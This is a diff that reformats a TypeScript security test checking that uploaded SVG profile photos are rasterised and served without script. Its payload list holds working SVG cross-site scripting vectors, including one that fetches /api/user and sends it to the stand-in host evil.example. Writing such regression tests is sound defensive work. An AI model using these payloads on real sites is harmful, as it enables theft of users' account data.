@@ -17,13 +17,32 @@ const SVG = (body: string, attributes = '') =>
 
 const PAYLOADS: [string, string][] = [
   ['a script split around an inner one', SVG('<scr<script></script>ipt>fetch("/api/user")</script>')],
-  ['a plain script element', SVG('<script>fetch("/api/user").then(r=>r.text()).then(t=>fetch("https://evil.example/?"+t))</script>')],
+  [
+    'a plain script element',
+    SVG('<script>fetch("/api/user").then(r=>r.text()).then(t=>fetch("https://evil.example/?"+t))</script>'),
+  ],
   ['an event handler with a newline before "="', SVG('', ' onload\n="alert(document.domain)"')],
   ['a javascript: link in xlink:href', SVG('<a xlink:href="javascript:alert(1)"><circle r="5"/></a>')],
-  ['an animation that sets href to javascript:', SVG('<a><animate attributeName="href" values="javascript:alert(1)"/><text y="8">x</text></a>')],
-  ['an HTML iframe in a foreignObject', SVG('<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></foreignObject>')],
-  ['a <use> of a data: SVG with a script', SVG('<use href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4="/>')],
-  ['HTML with an svg root claimed', '<svg xmlns="http://www.w3.org/2000/svg"><html><body><script>alert(1)</script></body></html></svg>'],
+  [
+    'an animation that sets href to javascript:',
+    SVG('<a><animate attributeName="href" values="javascript:alert(1)"/><text y="8">x</text></a>'),
+  ],
+  [
+    'an HTML iframe in a foreignObject',
+    SVG(
+      '<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></foreignObject>',
+    ),
+  ],
+  [
+    'a <use> of a data: SVG with a script',
+    SVG(
+      '<use href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4="/>',
+    ),
+  ],
+  [
+    'HTML with an svg root claimed',
+    '<svg xmlns="http://www.w3.org/2000/svg"><html><body><script>alert(1)</script></body></html></svg>',
+  ],
 ];
 
 const form = (content: string) => {
@@ -54,7 +73,9 @@ describe('uploaded images never carry script (finding 1)', () => {
     const served = await new ApiClient().get(photo, `/api/profile-photos/${file}`, { params: { file } });
     expect(served.headers.get('content-type')).toBe('image/png');
     expect(served.headers.get('x-content-type-options')).toBe('nosniff');
-    expect(served.headers.get('content-security-policy')).toBe("default-src 'none'; style-src 'unsafe-inline'; sandbox");
+    expect(served.headers.get('content-security-policy')).toBe(
+      "default-src 'none'; style-src 'unsafe-inline'; sandbox",
+    );
     expect(served.bytes.subarray(0, 8)).toEqual(PNG_SIGNATURE);
   });
 
@@ -63,9 +84,13 @@ describe('uploaded images never carry script (finding 1)', () => {
     fs.mkdirSync(path.join(uploadDir, 'profile-photos'), { recursive: true });
     fs.writeFileSync(path.join(uploadDir, 'profile-photos', `${name}.svg`), SVG('<script>alert(1)</script>'));
     await db.user.update({ where: { id: victim.id }, data: { profilePhotoPath: `${name}.svg` } });
-    const svgUrl = await new ApiClient().get(photo, `/api/profile-photos/${name}.svg`, { params: { file: `${name}.svg` } });
+    const svgUrl = await new ApiClient().get(photo, `/api/profile-photos/${name}.svg`, {
+      params: { file: `${name}.svg` },
+    });
     expect(svgUrl.status).toBe(404);
-    const served = await new ApiClient().get(photo, `/api/profile-photos/${name}.png`, { params: { file: `${name}.png` } });
+    const served = await new ApiClient().get(photo, `/api/profile-photos/${name}.png`, {
+      params: { file: `${name}.png` },
+    });
     expect(served.status).toBe(200);
     expect(served.headers.get('content-type')).toBe('image/png');
     expect(served.bytes.toString('latin1')).not.toContain('<script');
